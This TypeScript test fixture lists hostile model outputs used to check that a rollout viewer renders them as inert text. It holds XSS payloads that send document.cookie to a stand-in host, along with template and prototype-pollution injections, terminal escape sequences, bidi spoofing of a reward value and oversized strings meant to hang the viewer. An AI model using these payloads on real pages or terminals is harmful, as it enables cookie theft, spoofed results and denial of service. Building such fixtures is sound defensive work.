/**
 * Rollouts that attack whoever looks at them, on a page or in a terminal. Of our own making. Whatever shows rollouts shows these
 * as text: nothing in them runs, loads, styles, moves the cursor or turns the direction of what stands around them.
 */
export interface HostileRollout {
  readonly name: string;
  readonly text: string;
}

/** What every script of a hostile rollout tries to set on the page; a test looks whether it is there. */
export const OWNED = 'rlarOwned';
/** Where the rollouts try to send requests. Names below `.invalid` lead nowhere. */
export const ELSEWHERE = 'elsewhere.invalid';

const RUN = `window.${OWNED}=1;document.title='owned';fetch('//${ELSEWHERE}/'+document.cookie)`;

export const HOSTILE_ROLLOUTS: readonly HostileRollout[] = [
  {
    name: 'script',
    text: `The answer is 12.<script>${RUN}</script><script src="https://${ELSEWHERE}/a.js"></script>`,
  },
  {
    name: 'handlers',
    text: `<img src=x onerror="${RUN}"><body onload="${RUN}"><details open ontoggle="${RUN}">12</details>`,
  },
  {
    name: 'svg',
    text: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><animate onbegin="${RUN}" attributeName="x"/><use href="https://${ELSEWHERE}/x.svg#a"/><foreignObject><iframe srcdoc="<script>parent.${OWNED}=1</script>"></iframe></foreignObject></svg> 12`,
  },
  {
    name: 'css',
    text: `<style>@import url("https://${ELSEWHERE}/a.css");*{display:none!important}body{background:url(https://${ELSEWHERE}/b.png)}</style><div style="position:fixed;inset:0;background:red">12</div>`,
  },
  {
    name: 'out of an attribute',
    text: `"><a href="javascript:${RUN}" autofocus onfocus="${RUN}">12</a><a title='`,
  },
  {
    name: 'markdown',
    text: `[12](javascript:${RUN}) ![x](https://${ELSEWHERE}/p.png) <https://${ELSEWHERE}> \n\n\`\`\`"><script>${RUN}</script>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  },
  {
    name: 'maths',
    text: `$\\href{javascript:${RUN}}{12}$ $\\unicode{x3c}script\\unicode{x3e}$ $$\\htmlStyle{position:fixed}{12}$$ \\(\\text{<img src=x onerror="${RUN}">}\\) \\[\\begin{matrix}${'{'.repeat(400)}\\end{matrix}\\] $${'\\frac{'.repeat(400)}$`,
  },
  {
    name: 'template',
    text: `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= 12 %> {"__proto__": {"${OWNED}": 1}}`,
  },
  {
    name: 'form and frame',
    text: `<form action="https://${ELSEWHERE}"><button autofocus>Rescore</button></form><iframe src="https://${ELSEWHERE}"></iframe><meta http-equiv="refresh" content="0;url=https://${ELSEWHERE}"><base href="https://${ELSEWHERE}/">`,
  },
  {
    name: 'right to left',
    text: 'reward \u202e0.1 ylno si sihT\u202c and \u2067\u2066isolates\u2069 without end \u2067 مرحبا ١٢ \u200fend',
  },
  {
    name: 'control characters',
    text: `a\u0000b\u0007c\u0008\u0008d\u007fe\u009bf\u2028g\u2029h\ufeffi\u200bj\ufff9k \ud800 \u{e0041}\u{e0042} 12`,
  },
  {
    name: 'terminal escapes',
    text: `\u001b[2J\u001b[H\u001b[31mreward 1\u001b[0m\u001b]0;owned\u0007\u001b]52;c;b3duZWQ=\u0007\u001b]8;;https://${ELSEWHERE}\u001b\\link\u001b]8;;\u001b\\\u001bP1$r\u001b\\\u001b[6n\u009b5n\r\u001b[1A\u001b[Koverwritten`,
  },
  { name: 'marks upon marks', text: `12 ${'Z\u0351\u0343\u0329\u0317'.repeat(800)}${'e\u0301'.repeat(400)}` },
  { name: 'one long word', text: `${'A'.repeat(60_000)} 12` },
  {
    name: 'looks like the page',
    text: 'status: scored\nreward 1\n</pre></main><h1>Reward 1</h1>\n## tool: final-number said 1\n12',
  },
];

/** @returns a rollout of many lines, 7 characters each */
export function manyLines(lines = 1_000_000): HostileRollout {
  return { name: `${lines} lines`, text: `${'line 7\n'.repeat(lines)}12` };
}
